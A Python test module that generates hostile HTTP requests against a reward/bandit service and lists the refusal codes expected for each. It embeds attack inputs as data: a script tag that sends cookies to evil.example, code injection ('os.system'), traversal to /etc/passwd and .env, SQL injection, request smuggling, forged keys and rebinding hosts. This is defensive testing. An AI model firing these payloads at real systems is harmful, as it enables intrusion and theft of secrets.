"""Hostile requests: what an attacker sends, and which answers are right."""

from __future__ import annotations

import json
import random
from collections.abc import Callable
from contextlib import suppress
from dataclasses import dataclass
from typing import Any

from ironarm.service import verbs
from ironarm.service.keys import SCOPES

CLOSED = 0  # the connection was closed without an answer
SCRIPT = "<script>fetch('//evil.example/'+document.cookie)</script>"


@dataclass
class Attempt:
    """A request as it is sent, and the answers that are right.

    With `lines` the answer is 200, and each line in it is a refusal.
    """

    raw: bytes
    right: frozenset[int]
    lines: bool = False
    service: str = "keyed"


@dataclass
class World:
    """What the attacker has: every kind of key but a good one, ids, and luck."""

    luck: random.Random
    keys: dict[str, str]
    open_ids: list[str]
    foreign_ids: list[str]
    rewarded: str
    cancelled: str


def http(
    method: str, path: str, key: str | None = None, body: bytes = b"", **headers: str
) -> bytes:
    """Return a request as bytes."""
    lines = [f"{method} {path} HTTP/1.1"]
    given = {"host": "127.0.0.1", "content-type": "application/json"}
    if key is not None:
        given["authorization"] = f"Bearer {key}"
    if body or method in ("POST", "PUT"):
        given["content-length"] = str(len(body))
    given.update({name.replace("_", "-"): value for name, value in headers.items()})
    lines += [f"{name}: {value}" for name, value in given.items()]
    return "\r\n".join(lines).encode("utf8", "surrogatepass") + b"\r\n\r\n" + body


def refused(raw: bytes, *right: int, **more: Any) -> Attempt:
    return Attempt(raw, frozenset(right), **more)


def reward_path(id: str) -> str:
    return f"/v1/decisions/{id}/reward"


GOOD = b'{"value": 1.5, "source": "user 1"}'
BROKEN = [
    b"",
    b"{",
    b"}",
    b"null",
    b"[]",
    b"1.5",
    b'"x"',
    b'{"value": 1.5',
    b"{'value': 1.5}",
    b'{"value": 1.5,}',
    b'{"value": 1.5}}',
    b'{"value": 1.5} {"value": 2}',
    b'{"value": 01}',
    b'{"value": +1}',
    b'{"value": 0x10}',
    b'{"value": 1.5, "value2": 1}',
    b'{"value": 1.5, "value": 1.5}',
    b'{"VALUE": 1.5}',
    b'{"value": {"$gt": 0}}',
    b'{"value": "1.5"}',
    b'{"value": true}',
    b'{"value": [1.5]}',
    b'{"value": 1.5, "source": {}}',
    b'{"value": 1.5, "source": 1.5}',
    b'{"value": 1.5, "source": ""}',
    b'{"value": 1.5, "source": "\\u0000"}',
    b'{"value": 1.5, "source": "\\ud800"}',
    b'{"value": 1.5, "source": "a\\nb"}',
    b'{"value": 1.5, "source": 99999999999999999999}',
    b'{"value": 1.5, "failed": true}',
    b'{"failed": false}',
    b'{"failed": "true"}',
    b"\xef\xbb\xbf{}",
    b"\xff\xfe",
    b'{"value": 1.5, "source": "\xff"}',
    b"[" * 50_000,
    b'{"a":' * 5_000,
    b"\x00" * 100,
]
INFINITE = [
    "NaN",
    "Infinity",
    "-Infinity",
    "inf",
    "1e999",
    "-1e999",
    "1e400",
    "9" * 400,
    '"NaN"',
    '"inf"',
    '"-inf"',
    "null",
    "1e+999999999999",
]


def malformed(w: World) -> Attempt:
    """Bodies that are not what they should be, for a decision that is open."""
    body = w.luck.choice(BROKEN)
    if w.luck.random() < 0.5:  # or a good one with some bytes changed
        changed = bytearray(GOOD)
        for _ in range(w.luck.randint(1, 4)):
            changed[w.luck.randrange(len(changed))] = w.luck.randrange(256)
        with suppress(Exception):
            verbs.reward.body.read(bytes(changed))
            changed = bytearray(b"{")
        body = bytes(changed)
    return refused(http("PUT", reward_path(w.luck.choice(w.open_ids)), w.keys["reward"], body), 422)


def infinite(w: World) -> Attempt:
    """Numbers that are none, in rewards, observations and rules."""
    x, id = w.luck.choice(INFINITE), w.luck.choice(w.open_ids)
    kind = w.luck.randrange(4)
    if kind == 0:
        return refused(
            http("PUT", reward_path(id), w.keys["reward"], b'{"value": %s}' % x.encode()), 422
        )
    if kind == 1:
        line = b'{"id": "%s", "value": %s}' % (id.encode(), x.encode())
        return refused(http("POST", "/v1/rewards", w.keys["reward"], line), 200, lines=True)
    if kind == 2:
        line = b'{"arm": "red", "value": %s}' % x.encode()
        path = "/v1/agents/ads/observations"
        return refused(http("POST", path, w.keys["reward"], line), 200, lines=True)
    if x == "null":
        x = "NaN"
    body = b'{"arms": ["a"], "reward_within": %s}' % x.encode()
    return refused(http("PUT", "/v1/agents/new", w.keys["admin"], body), 422)


def enormous(w: World) -> Attempt:
    """Bodies, batches and heads that are too long, in truth or by their own account."""
    path, key = reward_path(w.luck.choice(w.open_ids)), w.keys["reward"]
    kind = w.luck.randrange(7)
    if kind == 0:
        return refused(http("PUT", path, key, b" " * 65_537 + GOOD), 413)
    if kind == 1:  # a length that never comes; slow senders are cut off
        claim = str(10 ** w.luck.randint(5, 18))
        raw = http("PUT", path, key, content_length=claim, connection="close")
        return refused(raw, 413)
    if kind == 2:
        raw = http("PUT", path, key, transfer_encoding="chunked").replace(
            b"content-length: 0\r\n", b""
        )
        return refused(raw + b"4000\r\n" + b" " * 0x4000 + b"\r\n" + raw_chunks(5), 413)
    if kind == 3:
        lines = b'{"id": "1.x", "value": 1}\n' * 10_001
        return refused(http("POST", "/v1/rewards", key, lines), 413)
    if kind == 4:
        return refused(http("GET", "/v1/agents", w.keys["read"], x="a" * 1_000_000), CLOSED, 400)
    if kind == 5:
        return refused(http("GET", "/" + "a" * 1_000_000, w.keys["read"]), CLOSED, 400, 404)
    source = json.dumps({"value": 1.0, "source": "s" * w.luck.randint(201, 60_000)}).encode()
    return refused(http("PUT", path, key, source), 422)


def raw_chunks(count: int) -> bytes:
    return (b"4000\r\n" + b" " * 0x4000 + b"\r\n") * count + b"0\r\n\r\n"


def huge_batch(w: World) -> Attempt:
    """Nine megabytes."""
    return refused(http("POST", "/v1/rewards", w.keys["reward"], b" " * 9_000_000), 413)


def ten_thousand_arms(w: World) -> Attempt:
    """An agent of 10^4 arms, and other agents that cannot be."""
    arms = [f"{SCRIPT} {i}" for i in range(10_000)]
    return refused(
        http("PUT", "/v1/agents/new", w.keys["admin"], json.dumps({"arms": arms}).encode()), 422
    )


def impossible_agents(w: World) -> Attempt:
    """Code in the place of a policy, names that are paths, arms that are none."""
    body: dict[str, Any] = {"arms": ["a", "b"]}
    name = "new"
    kind = w.luck.randrange(4)
    if kind == 0:
        body["policy"] = w.luck.choice(
            [
                "__import__('os').system('id')",
                "/etc/passwd",
                "own.py:Policy()",
                "UCB(alpha=__import__('os'))",
                "UCB(alpha=1e999)",
                "UCB(alpha=9**9**9)",
                "UCB(alpha=" + "(" * 900,
                "UCB(sigma=-1)",
                "MedEUCB(block=1)",
                "BARBAR()",
                "Agent()",
                "\x00",
                SCRIPT,
                "x" * 5000,
            ]
        )
    elif kind == 1:
        name = w.luck.choice(["..", ".hidden", "a%2fb", "a" * 101, "%00", "a b", "ä", SCRIPT])
        name = "".join(c if c.isascii() and c not in " <>" else f"%{ord(c):02x}" for c in name)
        return refused(
            http("PUT", f"/v1/agents/{name}", w.keys["admin"], json.dumps(body).encode()), 404, 422
        )
    elif kind == 2:
        body["arms"] = w.luck.choice(
            [[], ["a", "a"], [7, "7"], [""], ["\n"], [1.5], [None], ["x" * 201], [2**64], "ab"]
        )
    else:
        body.update(
            w.luck.choice(
                [
                    {"seed": -1},
                    {"memory": "none"},
                    {"reward_within": 0},
                    {"reward_within": -5},
                    {"missing_reward": 1},
                    {"path": "/etc"},
                    {"minimize": "yes"},
                    {"__class__": "x"},
                ]
            )
        )
    return refused(
        http("PUT", f"/v1/agents/{name}", w.keys["admin"], json.dumps(body).encode()), 422
    )


def guessed_ids(w: World) -> Attempt:
    """Ids that do not exist: random ones, real ones with a letter changed, nonsense."""
    kind = w.luck.randrange(3)
    if kind == 0:
        id = f"{w.luck.randint(0, 5)}.{w.luck.randbytes(16).hex()}"
    elif kind == 1:
        real = w.luck.choice(w.open_ids + w.foreign_ids)
        place = w.luck.randrange(2, len(real))
        letter = w.luck.choice([c for c in "abcdefABCDEF012345_-" if c != real[place]])
        id = real[:place] + letter + real[place + 1 :]
    else:
        id = w.luck.choice(
            [
                *("1", "1.", ".", "-1.x", "1_0.x", "1.%00", "1.'%20OR%201=1--", "²", "1e3.x"),
                *("%31." + "0" * 32, "1.%F0%9F%92%A9", "9" * 21 + ".x", "0x1.x", "1." + "x" * 500),
            ]
        )
    if w.luck.random() < 0.3:
        return refused(http("DELETE", f"/v1/decisions/{id}", w.keys["decide"]), 400, 404)
    return refused(http("PUT", reward_path(id), w.keys["reward"], GOOD), 400, 404)


def foreign(w: World) -> Attempt:
    """A key for one agent, used on another; real ids of the other included."""
    key = w.keys["ads only"]
    kind = w.luck.randrange(5)
    if kind == 0:
        id = w.luck.choice(w.foreign_ids)
        return refused(http("PUT", reward_path(id), key, GOOD), 404)
    if kind == 1:
        return refused(http("DELETE", f"/v1/decisions/{w.luck.choice(w.foreign_ids)}", key), 404)
    if kind == 2:
        line = json.dumps({"id": w.luck.choice(w.foreign_ids), "value": 1.0}).encode()
        return refused(http("POST", "/v1/rewards", key, line), 200, lines=True)
    if kind == 3:
        return refused(http("GET", "/metrics", key), 403)
    method, path, _ = w.luck.choice([r for r in ROUTES if "{agent}" in r[1]])
    return refused(http(method, path.replace("{agent}", "secret"), key, GOOD), 403)


ROUTES = [
    ("POST", "/v1/agents/{agent}/decisions", "decide"),
    ("DELETE", "/v1/decisions/{id}", "decide"),
    ("PUT", "/v1/decisions/{id}/reward", "reward"),
    ("POST", "/v1/rewards", "reward"),
    ("POST", "/v1/agents/{agent}/observations", "reward"),
    ("GET", "/v1/agents", "read"),
    ("GET", "/v1/agents/{agent}", "read"),
    ("GET", "/v1/agents/{agent}/sources", "read"),
    ("GET", "/v1/agents/{agent}/state", "read"),
    ("GET", "/v1/agents/{agent}/log", "read"),
    ("GET", "/v1/agents/{agent}/events", "read"),
    ("GET", "/metrics", "read"),
    ("PUT", "/v1/agents/{agent}", "admin"),
    ("DELETE", "/v1/agents/{agent}", "admin"),
    ("POST", "/v1/agents/{agent}/arms", "admin"),
    ("DELETE", "/v1/agents/{agent}/arms/red", "admin"),
]


def filled(w: World, route: tuple[str, str, str]) -> tuple[str, str, str]:
    method, path, scope = route
    agent = w.luck.choice(["ads", "secret"])
    return method, path.format(agent=agent, id=w.luck.choice(w.open_ids)), scope


def wrong_scope(w: World) -> Attempt:
    """A real key that may do something else."""
    method, path, scope = filled(w, w.luck.choice(ROUTES))
    key = w.keys[w.luck.choice([each for each in SCOPES if each not in (scope, "admin")])]
    return refused(http(method, path, key, GOOD if method != "GET" else b""), 403)


def bad_keys(w: World) -> Attempt:
    """No key, a revoked one, a forged one, one in the wrong place."""
    method, path, _ = filled(w, w.luck.choice(ROUTES))
    good, kind = w.keys["admin"], w.luck.randrange(8)
    forged = good[:20] + w.luck.randbytes(29).hex()[: len(good) - 20]
    place = w.luck.randrange(16, len(good))
    altered = good[:place] + ("x" if good[place] != "x" else "y") + good[place + 1 :]
    authorization = [
        None,
        f"Bearer {w.keys['revoked']}",
        f"Bearer {forged}",
        f"Bearer {altered}",
        f"Basic {good}",
        good,
        f"Bearer {good} {good}",
        "Bearer ",
    ][kind]
    more = {} if authorization is None else {"authorization": authorization}
    if w.luck.random() < 0.2:
        path += f"?key={good}&authorization={good}"
        more = {"x_api_key": good, "cookie": f"session={good}"}
    return refused(http(method, path, None, GOOD if method != "GET" else b"", **more), 401)


def path_tricks(w: World) -> Attempt:
    """Ways around the routes, without a key and with a weak one."""
    path = w.luck.choice(
        [
            "/v1/agents/ads/../../../metrics",
            "/v1/agents/ads/%2e%2e/secret/state",
            "//v1/agents",
            "/v1//agents",
            "/v1/agents/",
            "/v1/agents/ads/",
            "/V1/agents",
            "/v1/agents/ads/state/",
            "/v1/agents/ads%2fstate",
            "/v1/agents/ads%00/state",
            "/v1/agents/ads;/state",
            "/v1/agents/ads\\state",
            "/./metrics",
            "/metrics%20",
            "/metrics/..;/metrics",
            "/healthz/../metrics",
            "/openapi.json/../metrics",
            "http://evil.example/metrics",
            "/%6detrics/",
            "/v1/agents/secret/state#",
            "/.env",
            "/ironarm.db",
            "/static/../ironarm.db",
            "/static/%2e%2e/%2e%2e/ironarm.db",
            "/..%2f..%2fetc/passwd",
            "/\xe4\xf6",
            "*",
        ]
    )
    method = w.luck.choice(["GET", "POST", "PUT", "DELETE"])
    key = w.keys["reward"] if w.luck.random() < 0.5 else None
    return refused(http(method, path, key), 400, 401, 403, 404, 405)


def methods(w: World) -> Attempt:
    """Methods that no route has, and headers that some servers take for one."""
    method, path, scope = filled(w, w.luck.choice(ROUTES))
    if w.luck.random() < 0.5:
        method = w.luck.choice(["PATCH", "TRACE", "OPTIONS", "CONNECT", "PROPFIND", "BREW", "get"])
        return refused(http(method, path, w.keys["admin"]), CLOSED, 400, 405)
    key = w.keys["reward"] if scope != "reward" else w.keys["read"]
    override = {"x_http_method_override": "GET", "x_original_url": "/healthz"}
    return refused(http(method, path, key, GOOD if method != "GET" else b"", **override), 403)


def smuggling(w: World) -> Attempt:
    """Messages whose end two servers would see in different places."""
    inner = http("GET", "/v1/agents/secret/state", w.keys["reward"])
    path, key = "/v1/rewards", w.keys["reward"]
    raw = w.luck.choice(
        [
            http("POST", path, key, b"0\r\n\r\n" + inner, transfer_encoding="chunked"),
            http("POST", path, key, inner, content_length="5").replace(
                b"content-length: 5", b"content-length: 5\r\ncontent-length: 6"
            ),
            http("POST", path, key, content_length="-1"),
            http("POST", path, key, content_length="1e3"),
            http("POST", path, key, transfer_encoding="chunked").replace(
                b"content-length: 0\r\n", b""
            )
            + b"zz\r\n\r\n",
            b"GET /metrics\r\n\r\n",
            b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + w.luck.randbytes(50),
            b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
            w.luck.randbytes(200),
            b"GET / HTTP/1.1\r\nbad header\r\n\r\n",
            b"GET /v1/agents HTTP/9.9\r\nhost: 127.0.0.1\r\n\r\n",
        ]
    )
    return refused(raw, CLOSED, 400, 401)  # HTTP/0.9 is answered, and has no key


def cross_site(w: World) -> Attempt:
    """What a foreign page can make a browser send, with the best of keys."""
    method, path, _ = filled(w, w.luck.choice([r for r in ROUTES if r[0] != "GET"]))
    kind = w.luck.randrange(4)
    if kind == 0:
        origin = w.luck.choice(
            ["https://evil.example", "null", "http://127.0.0.1:1", "http://[", "http://\xff", "//"]
        )
        return refused(http(method, path, w.keys["admin"], GOOD, origin=origin), 403)
    if kind == 1:
        site = w.luck.choice(["cross-site", "same-site"])
        return refused(http(method, path, w.keys["admin"], GOOD, sec_fetch_site=site), 403)
    form = w.luck.choice(["text/plain", "application/x-www-form-urlencoded", "multipart/form-data"])
    if kind == 2:
        path = reward_path(w.luck.choice(w.open_ids))
        return refused(http("PUT", path, w.keys["admin"], GOOD, content_type=form), 415)
    return refused(
        http("POST", "/v1/agents/ads/arms", w.keys["admin"], GOOD, content_type=form), 415
    )


def rebinding(w: World) -> Attempt:
    """Without keys: another name for this machine, or a page of another site."""
    method, path, _ = filled(w, w.luck.choice(ROUTES))
    if w.luck.random() < 0.5:
        hosts = ["evil.example", "evil.example:80", "localhost.evil.example", "127.0.0.1.nip.io"]
        host = w.luck.choice([*hosts, "", "[", "10.0.0.1", "0.0.0.0", "localhost@evil.example:1"])
        return refused(http(method, path, None, host=host), 400, 403, service="open")
    method, path, _ = filled(w, w.luck.choice([r for r in ROUTES if r[0] != "GET"]))
    return refused(
        http(method, path, None, GOOD, origin="http://evil.example"), 403, service="open"
    )


def scripts(w: World) -> Attempt:
    """Markup where names go, from who may only send rewards."""
    kind = w.luck.randrange(3)
    if kind == 0:
        line = json.dumps({"arm": SCRIPT, "value": 1.0, "source": SCRIPT}).encode()
        path = "/v1/agents/ads/observations"
        return refused(http("POST", path, w.keys["reward"], line), 200, lines=True)
    if kind == 1:
        body = json.dumps({"arm": SCRIPT}).encode()
        return refused(http("POST", "/v1/agents/ads/arms", w.keys["reward"], body), 403)
    path = f"/v1/agents/{SCRIPT.replace('<', '%3C').replace('>', '%3E').replace('/', '%2F')}"
    return refused(http("GET", path, w.keys["read"]), 404)


def contradictions(w: World) -> Attempt:
    """Other rewards for decisions that are closed."""
    body = json.dumps({"value": w.luck.uniform(2, 1e300)}).encode()
    if w.luck.random() < 0.5:
        return refused(http("PUT", reward_path(w.rewarded), w.keys["reward"], body), 409)
    return refused(http("PUT", reward_path(w.cancelled), w.keys["reward"], body), 410)


def odd_questions(w: World) -> Attempt:
    """Queries and headers with values that are none."""
    if w.luck.random() < 0.5:
        value = w.luck.choice(["-1", "1e9", "0x10", "%D9%A3", "%00", "1" * 30, "", "1;drop", "1.0"])
        name = w.luck.choice(["after", "limit"])
        return refused(http("GET", f"/v1/agents/ads/log?{name}={value}", w.keys["read"]), 422)
    key = w.luck.choice(["", " ", "x" * 201, "\t", "ä"])
    raw = http("POST", "/v1/agents/ads/decisions", w.keys["decide"], idempotency_key=key)
    return refused(raw, 400, 422)


KINDS: list[tuple[str, float, Callable[[World], Attempt]]] = [
    ("malformed JSON", 15, malformed),
    ("infinities", 10, infinite),
    ("enormous bodies", 2, enormous),
    ("bodies of 9 MB", 0.05, huge_batch),
    ("10^4 arms", 0.1, ten_thousand_arms),
    ("impossible agents", 3, impossible_agents),
    ("unknown and guessed ids", 15, guessed_ids),
    ("keys of another agent", 10, foreign),
    ("wrong scopes", 10, wrong_scope),
    ("no, revoked and forged keys", 12, bad_keys),
    ("path tricks", 6, path_tricks),
    ("methods", 3, methods),
    ("smuggling, broken HTTP", 2, smuggling),
    ("cross-site requests", 6, cross_site),
    ("rebinding, cross-site, no keys", 4, rebinding),
    ("markup in names", 4, scripts),
    ("contradicting rewards", 4, contradictions),
    ("odd queries and headers", 4, odd_questions),
]
